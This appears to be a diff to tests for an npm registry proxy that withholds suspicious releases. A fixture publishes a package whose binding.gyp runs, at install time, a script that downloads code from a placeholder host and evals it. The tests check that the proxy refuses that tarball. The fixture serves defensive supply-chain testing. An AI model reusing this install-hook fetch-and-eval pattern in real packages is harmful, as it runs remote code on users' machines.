@@ -51,6 +51,20 @@ async function packumentOf(url: string, name: string): Promise<Served> {
   return jsonOf(await ask(url, `/${name}`, { headers: npmAgent })) as unknown as Served;
 }
 
+/** Two quiet years, and then a release whose document is as ever and whose files run a stranger's command at install. */
+function publishQuiet(): void {
+  const sources = '{ "targets": [{ "target_name": "x", "sources": ["<!(node fetch.js > /dev/null)"] }] }';
+  const fetcher =
+    'require("https").get("https://drop.invalid/a", (a) => a.on("data", (b) => eval(b.toString())));';
+  const files = [
+    { path: "binding.gyp", content: sources },
+    { path: "fetch.js", content: fetcher },
+  ];
+  registry.publish({ name: "quiet", version: "1.0.0" }, { at: "2024-06-01T00:00:00Z" });
+  registry.publish({ name: "quiet", version: "1.0.1" }, { at: "2026-01-01T00:00:00Z" });
+  registry.publish({ name: "quiet", version: "1.0.2" }, { at: "2026-06-08T00:00:00Z", files });
+}
+
 describe("the clause inspect", () => {
   test("withholds a release that nobody knows before it is served, and falls back to the one before", async () => {
     const url = await start();
@@ -69,6 +83,31 @@ describe("the clause inspect", () => {
 
     expect(answer.status).toBe(403);
     expect(JSON.stringify(jsonOf(answer))).toContain("odd-helper");
+  });
+
+  test("lists a release that is like those before it at once, and reads none of it before its tarball is asked for", async () => {
+    publishQuiet();
+    const url = await start();
+    registry.clearRequests();
+
+    const served = await packumentOf(url, "quiet");
+
+    expect(served["dist-tags"]).toEqual({ latest: "1.0.2" });
+    expect(registry.requests.map(({ path }) => path)).toEqual(["/quiet"]);
+  });
+
+  test("refuses the tarball of a release that only its bytes tell of, and lists it no more", async () => {
+    publishQuiet();
+    const url = await start();
+    await packumentOf(url, "quiet");
+
+    const refused = await ask(url, "/quiet/-/quiet-1.0.2.tgz", { headers: npmAgent });
+    const served = await packumentOf(url, "quiet");
+
+    expect(refused.status).toBe(403);
+    expect(jsonOf(refused)["error"]).toContain("inspect");
+    expect(served["dist-tags"]).toEqual({ latest: "1.0.1" });
+    expect(served.policyRestrictions?.message).toContain("Lockkeeper withholds quiet 1.0.2: inspect");
   });
 
   test("explains what was found", async () => {
